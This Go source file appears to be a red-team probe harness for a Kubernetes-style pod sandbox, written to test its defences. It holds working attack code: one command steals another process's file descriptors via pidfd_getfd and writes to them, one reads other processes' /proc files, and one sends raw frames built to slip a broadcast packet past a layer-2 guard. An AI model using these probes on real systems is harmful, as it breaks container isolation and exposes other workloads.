package main

// The second red team's probes of the pod sandbox (PID 1 of a pod with a
// shared PID namespace): what a container can take from it.

import (
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("rt2-sandbox-fds", rt2SandboxFDs)
	register("rt2-proc-read", rt2ProcRead)
	register("rt2-frame-to", rt2FrameTo)
}

// rt2FrameTo sends MSG three times in a UDP packet from the pod's own
// address to DST:PORT, in an Ethernet frame to the MAC of the pod at
// VICTIM (unicast at layer 2): the victim's kernel takes a broadcast DST
// as broadcast whatever the frame's destination, so a guard that looked
// at the Ethernet destination only would let it through.
//
//	attacker rt2-frame-to VICTIM DST PORT MSG
func rt2FrameTo(args []string) error {
	if len(args) != 4 {
		return errors.New("usage: rt2-frame-to VICTIM DST PORT MSG")
	}
	ifi, err := net.InterfaceByName(ifName)
	if err != nil {
		return err
	}
	mac, err := neighbourMAC(args[0], 3*time.Second)
	if err != nil {
		return err
	}
	port, err := strconv.Atoi(args[2])
	dst := net.ParseIP(args[1]).To4()
	if err != nil || dst == nil {
		return errors.New("bad address or port")
	}
	f := append(append(append([]byte{}, mac...), ifi.HardwareAddr...), 0x08, 0x00)
	return sendFrames(ifi, append(f, ipv4UDP(ownIPv4(ifi), dst, port, []byte(args[3]))...), 3)
}

// rt2SandboxFDs takes every descriptor of PID (0 to 63) with
// pidfd_getfd, and prints "FD n <what it is>" for each it got; with
// "write" it then tries to write a byte to each and prints "WROTE n".
//
//	attacker rt2-sandbox-fds PID [write]
func rt2SandboxFDs(args []string) error {
	if len(args) < 1 {
		return errors.New("usage: rt2-sandbox-fds PID [write]")
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	pfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return fmt.Errorf("pidfd_open(%d): %w", pid, err)
	}
	defer unix.Close(pfd)
	got := 0
	var last error
	for n := range 64 {
		fd, err := unix.PidfdGetfd(pfd, n, 0)
		if err != nil {
			if !errors.Is(err, unix.EBADF) {
				last = fmt.Errorf("pidfd_getfd(%d): %w", n, err)
			}
			continue
		}
		got++
		l, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		fmt.Printf("FD %d %s\n", n, l)
		if len(args) > 1 && args[1] == "write" {
			if _, err := unix.Write(fd, []byte("x")); err == nil {
				fmt.Printf("WROTE %d\n", n)
			}
		}
		unix.Close(fd)
	}
	if got == 0 {
		if last != nil {
			return last
		}
		return errors.New("no descriptor")
	}
	return nil
}

// rt2ProcRead prints /proc/PID/FILE with NULs as spaces.
//
//	attacker rt2-proc-read PID FILE
func rt2ProcRead(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: rt2-proc-read PID FILE")
	}
	b, err := os.ReadFile("/proc/" + args[0] + "/" + args[1])
	if err != nil {
		return err
	}
	fmt.Printf("%s: %s\n", args[1], strings.ReplaceAll(string(b), "\x00", " "))
	return nil
}
